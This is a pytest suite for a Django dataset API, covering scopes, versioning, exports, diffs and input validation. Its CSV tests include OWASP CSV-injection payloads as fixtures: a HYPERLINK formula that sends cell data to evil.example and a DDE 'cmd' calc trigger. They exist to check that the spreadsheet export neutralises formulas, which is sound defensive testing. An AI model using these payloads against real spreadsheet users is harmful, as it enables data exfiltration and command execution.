"""The dataset REST API: scopes, datasets, versions, exports (streaming and background), diffs."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pyarrow.parquet as pq
import pytest
import yaml
from django.test import Client
from rest_framework.test import APIClient

from labeling.exports.jobs import export_path, export_run
from labeling.exports.models import Dataset, DatasetSnapshot, ExportJob, SnapshotBuild
from labeling.exports.tasks import build_snapshot
from tests.exports.conftest import body, export_token

DATASET = {"slug": "hate-en", "name": "Hate (en)", "filters": {"policies": ["hate"], "languages": ["en"]}}
# Most tests here build versions themselves: the dataset alone, without the first version creation builds.
DATASET_ALONE = {**DATASET, "build": False}


@pytest.fixture
def golds(hate, spam, make_gold):  # type: ignore[no-untyped-def]
    made = [make_gold(hate, ["violating" if n % 2 else "not_violating"], text=f"hate {n}") for n in range(6)]
    make_gold(hate, language="de")
    make_gold(spam)
    return made


def create_version(api: APIClient, slug: str = "hate-en") -> dict:  # type: ignore[type-arg]
    assert api.post("/api/v1/datasets/", {**DATASET_ALONE, "slug": slug}, format="json").status_code == 201
    response = api.post(f"/api/v1/datasets/{slug}/versions/", {}, format="json")
    assert response.status_code == 201, response.content
    return response.json()


def test_requests_without_the_right_scope_are_refused(golds, api, reader, make_token, lead_client) -> None:
    create_version(api)
    anonymous = APIClient()
    wrong = APIClient()
    wrong.credentials(HTTP_AUTHORIZATION=f"Bearer {make_token(['decisions:write'])}")
    for url in ("/api/v1/datasets/", "/api/v1/datasets/hate-en/versions/1/export?format=jsonl"):
        assert anonymous.get(url).status_code in (401, 403)
        assert wrong.get(url).status_code == 403
        assert lead_client.get(url).status_code == 403  # the API takes tokens, not browser sessions
        assert reader.get(url).status_code == 200
    refused = reader.post("/api/v1/datasets/hate-en/versions/", {}, format="json")
    assert refused.status_code == 403 and "export:write" in refused.json()["detail"]
    assert reader.post("/api/v1/datasets/", {**DATASET, "slug": "other"}, format="json").status_code == 403


def test_create_dataset_validates_its_input(golds, api) -> None:
    assert api.post("/api/v1/datasets/", DATASET, format="json").status_code == 201
    for bad in (
        DATASET,  # exists already
        {**DATASET, "slug": "x1", "group_by": "colour"},
        {**DATASET, "slug": "x2", "filters": {"policies": ["nope"]}},
        {**DATASET, "slug": "x3", "train_percent": 90, "dev_percent": 20},
        {**DATASET, "slug": "bad slug"},
    ):
        response = api.post("/api/v1/datasets/", bad, format="json")
        assert response.status_code == 400, (bad, response.content)
    assert Dataset.objects.count() == 1


def test_creating_a_dataset_builds_its_first_version_as_the_lead_page_does(golds, api, settings) -> None:
    created = api.post("/api/v1/datasets/", DATASET, format="json")
    assert created.status_code == 201, created.content
    first = created.json()["first_version"]
    assert created.json()["latest_version"] == 1 and created.json()["first_build"] is None
    assert first["version"] == 1 and first["row_count"] == 6 and first["filters"]["policies"] == ["hate"]
    assert api.get(first["url"]).json() == first

    settings.SNAPSHOT_SYNC_MAX_ROWS = 5  # a larger one goes to the background, as the page's does
    queued = api.post("/api/v1/datasets/", {**DATASET, "slug": "hate-bg"}, format="json").json()
    assert queued["first_version"] is None and queued["first_build"]["status"] == "queued"
    build_snapshot(queued["first_build"]["id"])  # the Celery task, run in-process
    assert api.get(api.get(queued["first_build"]["url"]).json()["version_url"]).json()["row_count"] == 6

    alone = api.post("/api/v1/datasets/", {**DATASET, "slug": "hate-later", "build": False}, format="json").json()
    assert (alone["latest_version"], alone["first_version"], alone["first_build"]) == (None, None, None)


def test_creating_a_dataset_nothing_matches_creates_nothing(golds, api) -> None:
    response = api.post("/api/v1/datasets/", {**DATASET, "filters": {"languages": ["xx"]}}, format="json")
    assert response.status_code == 400 and "No gold labels" in response.json()["detail"]
    assert not Dataset.objects.exists()


def test_version_is_created_with_statistics_and_links(golds, api) -> None:
    version = create_version(api)
    assert version["version"] == 1 and version["row_count"] == 6 and sum(version["splits"].values()) == 6
    assert version["filters"]["policies"] == ["hate"] and version["previous_version"] is None
    assert version["exports"]["parquet"].endswith("/versions/1/export?format=parquet")
    assert api.get(version["url"]).json() == version


def test_version_with_nothing_matching_is_400(golds, api) -> None:
    api.post("/api/v1/datasets/", DATASET_ALONE, format="json")
    response = api.post("/api/v1/datasets/hate-en/versions/", {"filters": {"languages": ["xx"]}}, format="json")
    assert response.status_code == 400 and "No gold labels" in response.json()["detail"]


def test_lists_use_cursor_pagination_and_filters(golds, api) -> None:
    for n in range(3):
        api.post("/api/v1/datasets/", {**DATASET_ALONE, "slug": f"ds-{n}", "name": f"Set {n}"}, format="json")
    api.post(
        "/api/v1/datasets/", {"slug": "spam-all", "name": "Spam", "filters": {"policies": ["spam"]}}, format="json"
    )
    first = api.get("/api/v1/datasets/", {"page_size": 2}).json()
    assert [d["slug"] for d in first["results"]] == ["ds-0", "ds-1"] and "cursor=" in first["next"]
    second = api.get(first["next"]).json()
    assert [d["slug"] for d in second["results"]] == ["ds-2", "spam-all"] and second["next"] is None
    assert [d["slug"] for d in api.get("/api/v1/datasets/", {"policy": "spam"}).json()["results"]] == ["spam-all"]
    assert [d["slug"] for d in api.get("/api/v1/datasets/", {"name": "set 1"}).json()["results"]] == ["ds-1"]
    for _ in range(3):
        api.post("/api/v1/datasets/ds-0/versions/", {}, format="json")
    versions = api.get("/api/v1/datasets/ds-0/versions/", {"page_size": 2}).json()
    assert [v["version"] for v in versions["results"]] == [3, 2] and versions["next"]
    assert api.get("/api/v1/datasets/nope/versions/").status_code == 404


def test_jsonl_export_streams_the_canonical_bytes(golds, api, reader) -> None:
    version = create_version(api)
    response = reader.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "jsonl"})
    assert response.status_code == 200 and response.streaming
    data = body(response)
    assert hashlib.sha256(data).hexdigest() == version["content_hash"]
    assert response["Content-Type"] == "application/x-ndjson"
    assert response["Content-Disposition"] == 'attachment; filename="hate-en-v1.jsonl"'
    assert response["X-Reviewapp-Rows"] == "6" and len(data.splitlines()) == 6


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("csv", "text/csv"), ("parquet", "application/vnd.apache.parquet"), ("label-studio", "application/json")],
)
def test_other_formats_stream_too(golds, api, fmt: str, content_type: str) -> None:
    version = create_version(api)
    response = api.get("/api/v1/datasets/hate-en/versions/1/export", {"format": fmt, "split": "train"})
    assert response.status_code == 200 and response["Content-Type"].startswith(content_type)
    data = body(response)
    train = version["splits"].get("train", 0)
    if fmt == "parquet":
        assert pq.read_table(io.BytesIO(data)).num_rows == train
    elif fmt == "csv":
        assert len(data.decode().splitlines()) == train + 1
    else:
        assert len(json.loads(data)) == train


def test_bad_export_parameters_are_400_and_unknown_versions_404(golds, api) -> None:
    create_version(api)
    base = "/api/v1/datasets/hate-en/versions"
    assert api.get(f"{base}/1/export", {"format": "xml"}).status_code == 400
    assert api.get(f"{base}/1/export", {"split": "holdout"}).status_code == 400
    assert api.get(f"{base}/2/export").status_code == 404
    assert api.get(f"{base}/99999999999/export").status_code == 404
    assert api.get("/api/v1/exports/99999999999999999999").status_code == 404


def test_background_export_writes_the_same_bytes(golds, api, settings) -> None:
    create_version(api)
    streamed = body(api.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "parquet"}))
    response = api.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "parquet", "background": "true"})
    assert response.status_code == 202
    job = response.json()
    assert response["Location"] == job["url"] and job["status"] == "queued" and job["download_url"] is None
    assert api.get(job["url"]).json()["progress"] == 0.0
    assert api.get(f"{job['url']}/download").status_code == 409

    export_run(job_id=job["id"])  # what the Celery task does (tests/exports/test_worker.py runs the real one)
    done = api.get(job["url"]).json()
    assert done["status"] == "done" and done["progress"] == 1.0 and done["bytes"] == len(streamed)
    download = api.get(done["download_url"])
    assert download.status_code == 200 and body(download) == streamed
    assert done["sha256"] == hashlib.sha256(streamed).hexdigest() == download["X-Reviewapp-Sha256"]

    again = api.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "parquet", "background": "true"})
    assert again.json()["id"] == job["id"] and again.json()["status"] == "done"  # the file is reused
    export_path(ExportJob.objects.get(pk=job["id"])).unlink()
    assert api.get(done["download_url"]).status_code == 410


def test_large_exports_go_to_the_background(golds, api, settings) -> None:
    version = create_version(api)
    settings.EXPORT_STREAM_MAX_ROWS = 5
    response = api.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "jsonl"})
    assert response.status_code == 202 and response.json()["rows_total"] == 6
    smallest = min(("train", "dev", "test"), key=lambda split: version["splits"].get(split, 0))
    small = api.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "jsonl", "split": smallest})
    assert small.status_code == 200 and small.streaming


def test_large_versions_are_built_in_the_background(golds, api, settings) -> None:
    api.post("/api/v1/datasets/", DATASET_ALONE, format="json")
    settings.SNAPSHOT_SYNC_MAX_ROWS = 5
    response = api.post("/api/v1/datasets/hate-en/versions/", {}, format="json")
    assert response.status_code == 202
    build = response.json()
    assert build["status"] == "queued" and build["rows_expected"] == 6 and build["version_url"] is None
    assert not DatasetSnapshot.objects.exists()

    build_snapshot(build["id"])  # the Celery task, run in-process
    build_snapshot(build["id"])  # a redelivered message changes nothing
    done = api.get(build["url"]).json()
    assert done["status"] == "done" and done["version"] == 1 and DatasetSnapshot.objects.count() == 1
    assert api.get(done["version_url"]).json()["row_count"] == 6


def test_failed_background_build_says_why(golds, api, settings) -> None:
    api.post("/api/v1/datasets/", DATASET_ALONE, format="json")
    settings.SNAPSHOT_SYNC_MAX_ROWS = 0
    build = api.post("/api/v1/datasets/hate-en/versions/", {}, format="json").json()
    SnapshotBuild.objects.filter(pk=build["id"]).update(filters={"languages": ["xx"]})
    build_snapshot(build["id"])
    failed = api.get(build["url"]).json()
    assert failed["status"] == "failed" and "No gold labels" in failed["error"]


def test_diff_between_versions(golds, api, hate, make_gold) -> None:
    create_version(api)
    make_gold(hate, ["not_violating" if golds[1].labels == ["violating"] else "violating"], item=golds[1].item)
    make_gold(hate, text="brand new")
    api.post("/api/v1/datasets/hate-en/versions/", {}, format="json")
    diff = api.get("/api/v1/datasets/hate-en/versions/2/diff").json()
    assert (diff["from_version"], diff["to_version"]) == (1, 2)
    assert diff["counts"] == {"added": 1, "removed": 0, "relabelled": 1, "updated": 0}
    assert {row["change"] for row in diff["rows"]} == {"added", "relabelled"}
    page = api.get("/api/v1/datasets/hate-en/versions/2/diff", {"limit": 1}).json()
    rest = api.get("/api/v1/datasets/hate-en/versions/2/diff", {"limit": 1, "after": page["next_after"]}).json()
    assert page["rows"] + rest["rows"] == diff["rows"] and rest["next_after"] is None
    assert api.get("/api/v1/datasets/hate-en/versions/1/diff").status_code == 404  # nothing before v1
    assert api.get("/api/v1/datasets/hate-en/versions/1/diff", {"against": 2}).json()["counts"]["removed"] == 1
    assert api.get("/api/v1/datasets/hate-en/versions/2/diff", {"after": "x;drop"}).status_code == 400


def test_every_endpoint_is_in_the_schema_with_examples(db) -> None:
    schema = yaml.safe_load(Client().get("/api/schema/").content)
    paths = schema["paths"]
    expected = {
        "/api/v1/datasets/": {"get", "post"},
        "/api/v1/datasets/{slug}/": {"get"},
        "/api/v1/datasets/{slug}/versions/": {"get", "post"},
        "/api/v1/datasets/{slug}/versions/{version}/": {"get"},
        "/api/v1/datasets/{slug}/versions/{version}/export": {"get"},
        "/api/v1/datasets/{slug}/versions/{version}/diff": {"get"},
        "/api/v1/datasets/{slug}/builds/{build_id}": {"get"},
        "/api/v1/exports/{job_id}": {"get"},
        "/api/v1/exports/{job_id}/download": {"get"},
    }
    for path, methods in expected.items():
        assert set(paths[path]) >= methods, path
    export = paths["/api/v1/datasets/{slug}/versions/{version}/export"]["get"]
    assert {p["name"] for p in export["parameters"]} >= {"format", "split", "redact_pii", "background"}
    assert set(export["responses"]["200"]["content"]) == {
        "application/x-ndjson",
        "text/csv",
        "application/vnd.apache.parquet",
        "application/json",
    }
    create = paths["/api/v1/datasets/"]["post"]
    assert create["requestBody"]["content"]["application/json"]["examples"]
    assert paths["/api/v1/datasets/{slug}/versions/{version}/diff"]["get"]["responses"]["200"]["content"][
        "application/json"
    ]["examples"]


def test_token_helper_scopes_are_exact(db) -> None:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {export_token('export:write')}")
    assert client.get("/api/v1/datasets/").status_code == 403  # write does not imply read


def test_nul_bytes_in_parameters_are_400(golds, api) -> None:
    create_version(api)
    assert api.get("/api/v1/datasets/", {"name": "a\x00b"}).status_code == 400
    assert api.get("/api/v1/datasets/", {"policy": "\x00"}).status_code == 400
    bad_filter = {"filters": {"languages": ["e\x00n"]}}
    assert api.post("/api/v1/datasets/hate-en/versions/", bad_filter, format="json").status_code == 400
    assert api.post("/api/v1/datasets/", {**DATASET, "slug": "nul", "name": "x\x00"}, format="json").status_code == 400


# Cells a spreadsheet would evaluate: each of OWASP's CSV-injection triggers, in content fields.
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_golds(hate, make_gold):  # type: ignore[no-untyped-def]
    made = [make_gold(hate, ["violating"], text=text, external_id=f"c{n}") for n, text in enumerate(FORMULA_TEXTS)]
    made.append(make_gold(hate, text="plain", title="=1+1", external_id="-7", metadata={"region": "@eu"}))
    return made


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_canonical_csv_keeps_formula_looking_cells_exactly(formula_golds, api, reader) -> None:
    version = create_version(api)
    jsonl = body(reader.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "jsonl"}))
    assert hashlib.sha256(jsonl).hexdigest() == version["content_hash"]
    response = reader.get("/api/v1/datasets/hate-en/versions/1/export", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Disposition"] == 'attachment; filename="hate-en-v1.csv"'
    header, *rows = _csv_cells(body(response))
    by_id = {row[header.index("external_id")]: row for row in rows}
    texts = [by_id[f"c{n}"][header.index("text")] for n in range(len(FORMULA_TEXTS))]
    assert texts == FORMULA_TEXTS  # the exact values, for code
    plain = by_id["-7"]
    assert (plain[header.index("title")], plain[header.index("region")]) == ("=1+1", "@eu")


def test_spreadsheet_csv_neutralises_every_formula_trigger(formula_golds, api, reader) -> None:
    create_version(api)
    url = "/api/v1/datasets/hate-en/versions/1/export"
    response = reader.get(url, {"format": "csv-excel"})
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="hate-en-v1.spreadsheet.csv"'
    safe = _csv_cells(body(response))
    canonical = _csv_cells(body(reader.get(url, {"format": "csv"})))
    header = safe[0]
    assert header == canonical[0] and len(safe) == len(canonical) == len(formula_golds) + 1
    by_id = {row[header.index("external_id")]: row for row in safe[1:]}
    texts = [by_id[f"c{n}"][header.index("text")] for n in range(len(FORMULA_TEXTS))]
    assert texts == ["'" + text for text in FORMULA_TEXTS]
    plain = by_id["'-7"]
    assert [plain[header.index(name)] for name in ("title", "region", "text")] == ["'=1+1", "'@eu", "plain"]
    # Every other cell is the canonical one; no cell of the safe file starts with a trigger.
    for safe_row, row in zip(safe[1:], canonical[1:], strict=True):
        for safe_cell, cell in zip(safe_row, row, strict=True):
            assert safe_cell == ("'" + cell if cell.startswith(TRIGGERS) else cell)
            assert not safe_cell.startswith(TRIGGERS)
    # A background job writes the same bytes into its file, for the same format.
    job = reader.get(url, {"format": "csv-excel", "background": "true"}).json()
    export_run(job_id=job["id"])
    assert body(reader.get(f"{job['url']}/download")) == body(reader.get(url, {"format": "csv-excel"}))
